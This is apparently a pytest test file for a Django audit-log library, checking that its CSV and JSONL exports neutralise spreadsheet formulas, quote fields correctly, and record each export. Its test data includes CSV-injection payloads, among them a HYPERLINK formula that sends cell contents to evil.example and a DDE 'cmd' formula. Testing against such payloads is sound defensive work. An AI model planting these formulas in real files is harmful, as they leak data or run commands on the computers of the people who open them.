"""Exports as csv and jsonl: nothing runs in a spreadsheet, nothing is lost, and the export is itself recorded (S8)."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis.strategies import lists, text

from auditkit_django import auditlog
from auditkit_django.exceptions import MalformedError
from auditkit_django.ledger.evidence.rows import COLUMNS, cells_line, neutralised, restored
from auditkit_django.models import Event
from auditkit_django.testing import append_now
from tests.host.models import Organization

_FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "  =1", "＝1", "＋1", "－1", "＠x", "'quoted", " 'x",  # noqa: RUF001
    '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0",
]  # fmt: skip
_HARMLESS = [
    "", " ", "plain", "a=b", "ada@example.org", "3-1", "it's", "2026-01-01T00:00:00Z", '{"a": 1}',
    "a; b", "a\r\nb", "a,=1", "a|=1", '"=1"', '{"a;":-1,"b":"c\\n=1"}', "x;y=1", "it;s'",
]  # fmt: skip
#: What begins a cell where it is read with other separators than the comma.
_BROKEN = [
    ("x;=1;y", "x;'=1;y"), ("x\t+1", "x\t'+1"), ("x\n-1", "x\n'-1"), ("x\r@y", "x\r'@y"), ("x\r\n=1", "x\r\n'=1"),
    ("x;  =1", "x;'  =1"), ('x";"=1";"y', """x";'"=1";"y"""), ("x;＝1", "x;'＝1"), ("x;\0=1", "x;'\0=1"),  # noqa: RUF001
    ("x;'=1", "x;''=1"), ("x; 'y", "x;' 'y"), (";=1", ";'=1"), (";;=1", ";;'=1"), ("x;\t=1", "x;\t'=1"), ("\t=1", "'\t'=1"),
    ("=1;=2\n=3", "'=1;'=2\n'=3"), ("';'=1", "'';''=1"), ('{"a":"x;=1"}', '{"a":"x;\'=1"}'),
]  # fmt: skip


@pytest.mark.parametrize("cell", _FORMULAS, ids=repr)
def test_a_formula_is_neutralised_and_can_be_restored(cell: str) -> None:
    assert neutralised(cell).startswith("'")
    assert restored(neutralised(cell)) == cell


@pytest.mark.parametrize(("cell", "wanted"), _BROKEN, ids=repr)
def test_a_formula_after_a_break_is_neutralised_and_can_be_restored(cell: str, wanted: str) -> None:
    assert neutralised(cell) == wanted
    assert restored(wanted) == cell


@given(text("=-@;\t\r\n' \"\0x＝", max_size=12))  # noqa: RUF001
def test_every_text_is_neutralised_and_can_be_restored(cell: str) -> None:
    safe = neutralised(cell)
    assert restored(safe) == cell
    begin, *after = re.split("[;\t\r\n]", safe)
    for part in (begin.lstrip(" \0"), *(part.lstrip(' "\0') for part in after)):
        assert not part.startswith(tuple("=-@＝"))  # noqa: RUF001


@pytest.mark.parametrize("cell", _HARMLESS, ids=repr)
def test_other_cells_are_left_alone(cell: str) -> None:
    assert neutralised(cell) == cell
    assert restored(cell) == cell


@given(lists(text("=-@;,\t\r\n' \"\0x＝", max_size=6), min_size=1, max_size=4))  # noqa: RUF001
def test_each_cell_of_a_row_is_neutralised(cells: list[str]) -> None:
    wanted = ['"' + neutralised(cell).replace('"', '""') + '"' for cell in cells]
    assert cells_line(cells) == ",".join(wanted) + "\r\n"


@pytest.mark.parametrize("cell", [*_FORMULAS, *(cell for cell, _wanted in _BROKEN)], ids=repr)
def test_a_formula_in_any_cell_of_a_row_is_neutralised(cell: str) -> None:
    safe = neutralised(cell).replace('"', '""')
    assert cells_line(["a", cell, "b"]) == f'"a","{safe}","b"\r\n'
    assert cells_line([cell]) == f'"{safe}"\r\n'


def _export(tenant: object, form: str, **window: Any) -> str:
    blocks = auditlog.export_evidence(tenant, format=form, include_chain_proof=False, **window)  # type: ignore[arg-type]
    assert not isinstance(blocks, int)
    return b"".join(blocks).decode()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_the_csv_is_rfc_4180_with_every_field_quoted(acme: Organization) -> None:
    auditlog.event("member.invited", tenant=acme, metadata={"note": 'a "b", c\r\nd'})
    text = _export(acme, "csv")
    header, *rest = text.split("\r\n")
    assert header == ",".join(f'"{name}"' for name in COLUMNS)
    assert rest[-1] == ""
    assert [json.loads(row["metadata"])["note"] for row in _rows(text) if row["action"] == "member.invited"] == [
        'a "b", c\r\nd'
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("name", [cell for cell in _FORMULAS if "\0" not in cell], ids=repr)
def test_no_cell_of_an_export_is_a_formula(acme: Organization, name: str) -> None:
    auditlog.event(
        "member.invited",
        tenant=acme,
        actor=auditlog.Actor("user", "=7".replace("=", "-"), name, name),
        resource=auditlog.Target("@type", "+1", name),
    )
    [row] = [row for row in _rows(_export(acme, "csv")) if row["action"] == "member.invited"]
    for cell in row.values():
        assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))  # noqa: RUF001
    assert [restored(row[column]) for column in ("actor_name", "actor_email", "target_name")] == [name] * 3
    assert (restored(row["actor_id"]), restored(row["target_type"]), restored(row["target_id"])) == (
        "-7",
        "@type",
        "+1",
    )


@pytest.mark.django_db
def test_jsonl_holds_exact_values_and_the_entry(acme: Organization) -> None:
    auditlog.event("member.invited", tenant=acme, metadata={"note": "=1\n\u2028", "n": 7}, actor="user:1")
    append_now()
    lines = _export(acme, "jsonl").split("\n")
    assert lines.pop() == ""
    events = [json.loads(line) for line in lines]
    [event] = [event for event in events if event["action"] == "member.invited"]
    assert event["metadata"] == {"note": "=1\n\u2028", "n": 7}
    assert event["entry"]["seq"] == event["seq"] == 1
    assert event["entry"]["id"] == event["id"]
    assert event["leaf_hash"] == auditlog.list(acme, action="member.invited")[0].leaf_hash.hex()  # type: ignore[union-attr]


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["csv", "json", "jsonl"])
def test_an_export_is_itself_recorded_before_its_first_line(acme: Organization, form: str) -> None:
    start, end = datetime(2020, 1, 1, tzinfo=UTC), datetime(2999, 1, 1, tzinfo=UTC)
    blocks = auditlog.export_evidence(acme, format=form, include_chain_proof=False, start=start, end=end)  # type: ignore[arg-type]
    assert isinstance(blocks, Iterator)
    [event] = auditlog.list(acme)
    assert event.action == "audit.log.exported"
    said = {"format": form, "proof": False, "filter": {}, "start": start.isoformat(), "end": end.isoformat()}
    assert event.metadata == said
    assert b"audit.log.exported" in b"".join(blocks)


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["csv", "json", "jsonl"])
def test_a_file_is_written_and_its_events_are_counted(acme: Organization, globex: Organization, form: str) -> None:
    for number in range(3):
        auditlog.event("member.invited", tenant=acme, metadata={"note": f"line\r\nbreak {number}"})
    auditlog.event("member.invited", tenant=globex)
    file = io.BytesIO()
    assert auditlog.export_evidence(acme, format=form, include_chain_proof=False, file=file) == 4  # type: ignore[arg-type]
    assert file.getvalue().count(b"member.invited") == 3
    with pytest.raises(MalformedError, match="open for bytes"):
        auditlog.export_evidence(acme, file=io.StringIO())  # type: ignore[arg-type]


@pytest.mark.django_db
def test_a_window_includes_its_start_and_not_its_end(acme: Organization) -> None:
    noon = datetime(2026, 3, 1, 12, tzinfo=UTC)
    for day in range(4):
        auditlog.event("member.invited", tenant=acme, occurred_at=noon + timedelta(days=day))
    rows = _rows(_export(acme, "csv", start=noon + timedelta(days=1), end=noon + timedelta(days=3)))
    assert [row["occurred_at"] for row in rows] == ["2026-03-02T12:00:00.000000Z", "2026-03-03T12:00:00.000000Z"]


@pytest.mark.django_db
def test_another_format_is_refused_and_not_recorded(acme: Organization) -> None:
    with pytest.raises(MalformedError, match="got 'docx'"):
        auditlog.export_evidence(acme, format="docx")  # type: ignore[arg-type]
    assert not Event.objects.exists()


@pytest.mark.django_db
def test_an_export_takes_the_same_memory_however_many_events_there_are(acme: Organization) -> None:
    def peak() -> int:
        tracemalloc.start()
        try:
            for _line in auditlog.export_evidence(acme, include_chain_proof=False):  # type: ignore[union-attr]
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def fill(count: int) -> None:
        with auditlog.batch() as batch:
            for number in range(count):
                batch.event("member.invited", tenant=acme, metadata={"note": "x" * 1000, "number": number})

    fill(1000)
    peak()
    few = peak()
    fill(5000)
    assert peak() < few * 1.5
